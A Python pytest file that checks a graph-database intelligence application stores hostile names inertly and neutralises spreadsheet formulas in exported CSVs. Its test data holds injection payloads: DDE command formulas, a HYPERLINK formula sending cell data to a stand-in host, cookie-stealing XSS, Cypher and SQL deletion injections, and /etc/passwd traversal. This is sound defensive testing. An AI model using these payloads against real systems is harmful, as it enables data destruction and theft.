"""Names that would act: they load as they are, come back as they are, and act nowhere."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from mobilis_graph import store
from mobilis_graph.access import Role
from mobilis_graph.errors import NotFound
from mobilis_graph.ingest.job import inert
from tests.conftest import Graph
from tests.graph.bad_inputs import Row, table, tip
from tests.graph.test_bad_inputs import run, written

# The word by which each is found again, where it has one.
NAMES = {
    "formula": ("=cmd|' /C calc'!A0", "calc"),
    "formula-link": ('=HYPERLINK("http://quux.example/?"&A1,"Ouvrir")', "quux"),
    "plus": ("+1+cmd|'/C calc'!Quip", "quip"),
    "minus": ("-2+3+Quap", "quap"),
    "at": ("@SUM(Quop)", "quop"),
    "tab-formula": ("Ève\t=1+1 Quep", "quep"),
    "full-width-formula": ("＝1＋1 Quyp", "quyp"),
    "script": ("<script>alert('Quark')</script>", "quark"),
    "script-end": ("</script><img src=x onerror=alert(1)> Quirk", "quirk"),
    "svg": ('"><svg onload=alert(document.cookie)>Quork', "quork"),
    "comment": ("<!-- Querk -->", "querk"),
    "entity": ("&lt;b&gt;Qualm&amp;", "qualm"),
    "markdown": ("[Quill](javascript:alert(1)) **gras** `code` $x^2$ :smile:", "quill"),
    "rich": ("[bold red]Quoll[/] [link=file:///etc/passwd]", "quoll"),
    "template": ("{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %(name)s {0} {name} Quilt", "quilt"),
    "cypher": ("'}) DETACH DELETE n // Quota", "quota"),
    "cypher-2": ("\"}) MATCH (n) SET n.guard='open' // Quote", "quote"),
    "cypher-3": ("`Quoin`:Person {key: $rows} UNWIND", "quoin"),
    "sql": ("'); DROP TABLE tip; -- Quoit", "quoit"),
    "quotes": ("Quinn \"le 'grand\" d'O’Quay «»“”", "quinn"),
    "backslashes": ("C:\\Quay\\new\\t \\u0041 \\' \\\"", "quay"),
    "line-breaks": ("Quad\nsecond\r\ntroisième", "quad"),
    "rtl": ("Quern \u202egnp.exe\u202c \u200f\u061c\u2066x\u2069", "quern"),
    "zero-width": ("Qu\u200bee\u200dn\ufeff Quest", "quest"),
    "line-separators": ("Quiff\u2028x\u2029y", "quiff"),
    "arabic": ("قاسم Quiz", "quiz"),
    "emoji": ("Quick 🚗👨‍👩‍👧‍👦🇨🇦🏳️‍🌈", "quick"),
    "combining": ("Q\u0301\u0302\u0303\u0304\u0305u\u0336i\u0336d", None),
    "decomposed": ("Que\u0301be\u0301c", "quebec"),
    "composed": ("Québécois", "quebecois"),
    "astral": ("𝕼𝖚𝖎𝖙𝖊 𠮷", "quite"),
    "not-a-value": ("NA", "na"),
    "null": ("null", "null"),
    "none": ("None", "none"),
    "nan": ("NaN", "nan"),
    "true": ("TRUE", "true"),
    "number": ("007", "007"),
    "exponent": ("1E5", "1e5"),
    "date": ("3 mai 2026", "mai"),
    "brackets-only": ("()[]{}<>", None),
    "punctuation": ("?!…;:,.", None),
    "percent": ("100%_Quip%", None),
    "path": ("../../etc/passwd Quagga", "quagga"),
    "reserved": ("MATCH RETURN AND OR NOT Quokka", "quokka"),
    "long-word": ("Quux" * 200, None),
    "one-letter": ("Q", None),
}


def alias(name: str) -> str:
    """The name as an alias; a bar would make two of it."""
    return NAMES[name][0].replace("|", "¦")


def tip_of(name: str) -> str:
    return f"H{list(NAMES).index(name)}"


def hostile(folder: Path) -> Path:
    """Each name in every text that a table takes, each told by a tip of its own."""
    rows: dict[str, list[Row]] = {
        n: [] for n in ("tips", "persons", "gangs", "vehicles", "places", "identifiers", "events", "uses", "statuses")
    }
    for name, (text, _) in NAMES.items():
        own = {"tip": tip_of(name)}
        rows["tips"].append(tip(own["tip"], text=text, organisation=text, origin=text))
        rows["persons"].append(
            own | {"ref": f"p-{text}", "name": text, "aliases": alias(name), "description": text, "note": text}
        )
        rows["gangs"].append(own | {"ref": f"g-{name}", "name": text})
        rows["vehicles"].append(own | {"ref": f"v-{name}", "plate": text, "make": text, "colour": text, "marks": text})
        rows["places"].append(own | {"ref": f"l-{name}", "name": text, "address": text, "municipality": text})
        rows["identifiers"].append(own | {"ref": f"i-{name}", "kind": "handle", "value": text})
        rows["events"].append(own | {"ref": f"e-{name}", "kind": "party", "title": text})
        rows["uses"].append(own | {"from": f"p-{text}", "to": f"v-{name}", "note": text})
        rows["statuses"].append(
            {"ref": f"p-{text}", "status": "charged", "ground": text, "author": text, "at": "2026-06-01"}
        )
    files = {f"{n}.csv": table(*r) for n, r in rows.items()}
    return written(folder, files | {"mobilis.toml": 'source = "hostile"\n'})


@pytest.fixture(scope="module")
def tables_of_names(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile(tmp_path_factory.mktemp("hostile") / "in")


@pytest.fixture
def held(graph: Graph, tables_of_names: Path) -> Graph:
    def fill() -> None:
        plan = graph.load(tables_of_names)
        assert (plan.tips_new, plan.rows_refused) == (len(NAMES), 0)

    graph.hold("hostile names", fill)
    return graph


def said_by(graph: Graph, name: str, label: str) -> str:
    """The id of the entity of that label that the tip of a name mentions."""
    found = graph.ask(
        "MATCH (t:Tip {reference: $tip})-[:MENTIONS]->(e:Entity) WHERE $label IN labels(e) RETURN e.id AS id",
        tip=tip_of(name),
        label=label,
    )
    assert len(found) == 1
    return str(found[0]["id"])


@pytest.mark.parametrize("name", NAMES)
def test_a_name_comes_back_byte_for_byte(held: Graph, name: str) -> None:
    text = NAMES[name][0]

    person = store.profile(held.desk(), said_by(held, name, "Person"))

    assert person.entity.facts["name"] == (text,)
    assert person.entity.caption == f"« {alias(name)} »"
    assert (person.status.ground, person.status.author) == (text, text) if person.status else False
    assert [a.note for a in person.assertions] == [text]
    assert [(t.text, t.organisation) for t in person.tips] == [(text, text)]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    ("label", "prop"),
    [("Gang", "name"), ("Vehicle", "plate"), ("Place", "address"), ("Identifier", "value"), ("Event", "title")],
)
def test_so_does_every_other_text(held: Graph, name: str, label: str, prop: str) -> None:
    entity = said_by(held, name, label)

    facts = store.profile(held.desk(), entity).entity.facts

    assert facts[prop] == (NAMES[name][0],)


@pytest.mark.parametrize("name", [n for n, (_, word) in NAMES.items() if word])
def test_a_name_is_found_by_a_word_of_it(held: Graph, name: str) -> None:
    hits, _ = store.search(held.desk(), str(NAMES[name][1]), limit=200)

    captions = {h.entity.id: h.entity.caption for h in hits}
    assert captions[said_by(held, name, "Person")] == f"« {alias(name)} »"


QUERIES = [
    *(text for text, _ in NAMES.values()),
    "quark*",
    "*",
    "?*",
    "quark~",
    "quark~0.8",
    '"quark quirk"',
    '"quark',
    "quark^4",
    "name:quark",
    "words:*",
    "quark AND",
    "AND OR NOT",
    "NOT quark",
    "+quark -quirk",
    "[a TO z]",
    "{a TO z}",
    "/qu.*/",
    "(((((",
    "quark && quirk || !quill",
    "\\",
    "quark\\",
    "quark\0",
    "\ud800",
    "q" * 10_000,
    "quark " * 2_000,
    "' OR 1=1 --",
    "$words",
    "%",
    "_",
    "__ __",
]


@pytest.mark.parametrize("query", QUERIES, ids=range(len(QUERIES)))
def test_no_search_is_a_query_of_its_own(held: Graph, query: str) -> None:
    before = held.ask("MATCH (n) RETURN count(n) AS n")

    hits, total = store.search(held.desk(Role.DETECTIVE), query)

    assert len(hits) <= total < 8 * len(NAMES)
    assert held.ask("MATCH (n) RETURN count(n) AS n") == before


@pytest.mark.parametrize("text", ["'}) DETACH DELETE n //", "*", "", "H0' OR '1'='1", "=H0", "\x00"])
def test_no_reference_or_id_is_a_query_either(held: Graph, text: str) -> None:
    picture = len(held.picture())

    with pytest.raises(NotFound):
        store.profile(held.desk(), text)
    with pytest.raises(NotFound):
        store.tip_id(held.desk(), text)

    assert len(held.picture()) == picture


@pytest.fixture
def refused(held: Graph, tmp_path: Path) -> str:
    """The file of refused rows of a load in which every name is at fault."""
    rows = [{"tip": "R1", "from": f"p-{text}", "to": text, "since": text} for text, _ in NAMES.values()]
    named = [{"tip": text, "ref": "p1", "name": "x"} for text, _ in NAMES.values()]
    files = {"tips.csv": table(tip("R1")), "uses.csv": table(*rows), "persons.csv": table(*named)}
    with held.job(written(tmp_path / "in", files)) as job:
        job.plan()
        job.write_refused(tmp_path / "refused.csv")
    return (tmp_path / "refused.csv").read_text(encoding="utf-8-sig")


def test_no_cell_of_the_refused_rows_runs_in_a_spreadsheet(refused: str) -> None:
    rows = list(csv.reader(io.StringIO(refused)))

    cells = [cell for row in rows for cell in row]

    assert len(rows) > len(NAMES)
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝＋－＠")] == []
    assert all(len(row) == 7 for row in rows)


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\n=1", "＝1", "＋1", "－1", "＠x"])
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Quo", "a=1", "1-2", "'=1", "é@x", "2026-05-03"])
def test_what_it_would_not_run_is_left_alone(text: str) -> None:
    assert inert(text) == text


def test_a_formula_of_a_workbook_that_was_never_calculated_is_a_blank(empty: Graph, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "persons"
    for row in (("tip", "ref", "name"), ("T1", "p1", "=1+1"), ("T1", "p2", "Quo")):
        book.active.append(row)
    folder = written(tmp_path / "in", {"tips.csv": table(tip("T1"))})
    book.save(folder / "persons.xlsx")

    empty.load(folder)

    names = empty.ask("MATCH ()-[m:MENTIONS]->(:Person) RETURN m.name AS name")
    assert sorted(str(n["name"]) for n in names) == ["None", "Quo"]


@pytest.mark.parametrize(("name", "shown"), [("rich", NAMES["rich"][0]), ("rtl", "Quern gnp.exe x")])
def test_the_command_line_shows_names_as_text_in_their_order(held: Graph, name: str, shown: str) -> None:
    done = run(held, "profile", said_by(held, name, "Person"), "--as", "analyst")

    assert (done.returncode, done.stderr) == (0, "")
    assert f"« {shown} » (Person)" in done.stdout
    assert [c for c in done.stdout if c in "\u202e\u202c\u200f\u061c\u2066\u2069\x1b"] == []
